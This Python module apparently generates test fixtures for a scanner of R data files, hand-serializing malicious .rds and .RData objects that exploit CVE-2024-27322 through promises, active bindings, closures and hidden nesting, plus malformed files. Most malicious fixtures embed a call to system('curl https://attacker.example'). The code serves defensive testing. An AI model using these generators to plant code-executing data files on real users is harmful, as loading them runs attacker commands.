"""R objects that run when somebody looks at them, and R objects that lie. Written item by item after R's serialize.c."""

import gzip
import struct

from .case import malformed, malicious

HEADER = b'X\n' + struct.pack('>iii', 2, 0x040202, 0x020300)
NIL, UNBOUND, GLOBAL = struct.pack('>i', 254), struct.pack('>i', 252), struct.pack('>i', 253)


def integer(value):
    return struct.pack('>i', value)


def chars(text):
    return integer(9 | 0x40000) + integer(len(text)) + text


def symbol(name):
    return integer(1) + chars(name)


def texts(*values):
    return integer(16) + integer(len(values)) + b''.join(chars(value) for value in values)


def pair(car, cdr, tag=None, levels=0, kind=2):
    return integer(kind | (0x400 if tag else 0) | levels << 12) + (symbol(tag) if tag else b'') + car + cdr


def call(function, *arguments):
    rest = NIL
    for argument in reversed(arguments):
        rest = pair(argument, rest)
    return pair(symbol(function), rest, kind=6)


def promise(expression, environment=GLOBAL):
    return integer(5 | 0x400) + environment + UNBOUND + expression


def closure(body):
    return integer(3 | 0x400) + GLOBAL + NIL + body


def environment(frame):
    return integer(4) + integer(0) + GLOBAL + frame + NIL + NIL


def vector(*items):
    return integer(19) + integer(len(items)) + b''.join(items)


RUN = call(b'system', texts(b'curl https://attacker.example'))
PROMISE = HEADER + promise(RUN)
malicious('rds/promise.rds', 'CVE-2024-27322: a promise with an expression and no value, run as soon as somebody looks.', '', PROMISE)
malicious('rds/promise-harmless-name.rds', 'The same with an expression whose functions nobody knows.', '', HEADER + promise(call(b'paste', texts(b'attacker.example'))))
malicious('rds/promise-in-list.rds', 'The promise is an element of a list.', '', HEADER + vector(texts(b'weights'), promise(RUN)))
malicious('rds/promise-in-data.RData', 'The promise is one of the objects of an RData file.', '', b'RDX2\n' + HEADER + pair(promise(RUN), NIL, tag=b'weights'))
malicious('rds/promise-in-attribute.rds', 'The promise is an attribute.', '', HEADER + integer(13 | 0x200) + integer(1) + integer(7) + pair(promise(RUN), NIL, tag=b'note'))
malicious('rds/promise-in-environment.rds', 'An argument that was never looked at, in the environment of a function.', '', HEADER + environment(pair(promise(RUN), NIL, tag=b'x')), 'suspicious')
malicious('rds/active-binding.rds', 'A variable that calls a function whenever it is read.', '', HEADER + environment(pair(closure(RUN), NIL, tag=b'x', levels=0x8000)), 'suspicious')
malicious('rds/function-system.rds', 'A function that runs a command.', '', HEADER + closure(RUN), 'suspicious')
malicious('rds/function-qualified.rds', 'The function is called by the name of its package.', '', HEADER + closure(pair(pair(symbol(b'::'), pair(symbol(b'base'), pair(symbol(b'system'), NIL)), kind=6), pair(texts(b'true'), NIL), kind=6)), 'suspicious')
malicious('rds/function-do-call.rds', 'The command is called by do.call with its name as a text.', '', HEADER + closure(call(b'do.call', texts(b'system'), texts(b'true'))), 'suspicious')
malicious('rds/method.rds', 'A class with a print function beside it.', '', b'RDX2\n' + HEADER + pair(closure(RUN), pair(vector(), NIL, tag=b'model'), tag=b'print.model'), 'suspicious')
malicious('rds/expression.rds', 'An expression kept as data.', '', HEADER + integer(20) + integer(1) + RUN, 'suspicious')
NESTED = PROMISE
malicious('rds/raw.rds', 'A raw vector that is an R object itself, with a promise.', '', HEADER + vector(integer(24) + integer(len(NESTED)) + NESTED))
malicious('rds/behind.rds', 'A second object stands behind the first.', '', HEADER + NIL + PROMISE)
malicious('rds/promise-ascii.rds', 'A promise in ASCII.', '', b'A\n2\n262657\n131840\n1029\n253\n252\n6\n1\n262153\n6\nsystem\n2\n16\n1\n262153\n4\ntrue\n254\n')
WIDE = b''.join(pair(NIL, b'') for _ in range(300))
malicious('rds/wide-call.rds', 'The command hides behind three hundred arguments.', '', HEADER + closure(pair(symbol(b'list'), WIDE + pair(RUN, NIL), kind=6)), 'suspicious')

malicious('rds/promise-gzip.rds', 'The promise, compressed as R compresses.', '', gzip.compress(PROMISE, mtime=0))
malformed('rds/long-vector.rds', 'A vector longer than any file.', HEADER + integer(14) + integer(-1) + integer(0x7FFF) + integer(0))
malformed('rds/negative-vector.rds', 'A vector with a negative length.', HEADER + integer(19) + integer(-7))
malformed('rds/type.rds', 'An item of a type that R does not have.', HEADER + integer(99))
malformed('rds/reference.rds', 'A reference to nothing.', HEADER + integer(255 | 7 << 8))
malformed('rds/deep.rds', 'Lists in lists, three thousand deep, that break off.', HEADER + (integer(19) + integer(1)) * 3000)
malformed('rds/cut.rds', 'An object that breaks off inside a text.', HEADER + integer(16) + integer(2) + chars(b'one') + integer(9) + integer(30))
malformed('rds/cut.RData', 'The mark alone.', b'RDX3\nX\n\0\0\0\x03')
malformed('rds/ascii-word.rds', 'ASCII with a word that is no number.', b'A\n2\n262657\n131840\n13\n2\n1\nx\n')
